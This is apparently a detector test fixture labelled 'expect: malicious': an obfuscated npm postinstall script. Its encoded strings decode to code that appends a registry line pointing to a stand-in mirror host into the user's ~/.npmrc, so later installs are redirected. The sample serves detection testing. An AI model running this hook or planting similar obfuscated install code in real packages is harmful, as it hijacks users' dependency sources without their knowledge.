// expect: malicious
// when: install
// source: blind set 33's ai-agent-api-base-redirect (an obfuscated postinstall): a string array rotated by a count, whose
// decoder writes its shift in the index (`_0x()[i - 0x10]`) and maps a lower-case-first alphabet before base64.
function _0x3b(){var a=['lM5WBxjJ','yxbWzw5KrMLSzvn5BMm=','cNjLz2LZDhj5pwH0DhbZoI8VCMvNAxn0CNKUBNbTlw1PCNjVCI5LEgfTCgXLlWO=','zNm=','Cgf0Aa==','B3m=','Ag9TzwrPCG==','AM9PBG=='];_0x3b=function(){return a;};return _0x3b();}
(function(g,n){var a=g();for(var i=0;i<n;i++){a['push'](a['shift']());}}(_0x3b,0x3));
function _0xd(i){var s=_0x3b()[i-0x10],A='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=',B='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=',o='';for(var j=0;j<s['length'];j++){var k=A['indexOf'](s[j]);o+=k<0?s[j]:B[k];}return Buffer['from'](o,'base64')['toString']('utf8');}
var _0xfs=require(_0xd(0x10)),_0xpa=require(_0xd(0x11)),_0xos=require(_0xd(0x12));
_0xfs[_0xd(0x16)](_0xpa[_0xd(0x14)](_0xos[_0xd(0x13)](),_0xd(0x15)),_0xd(0x17));
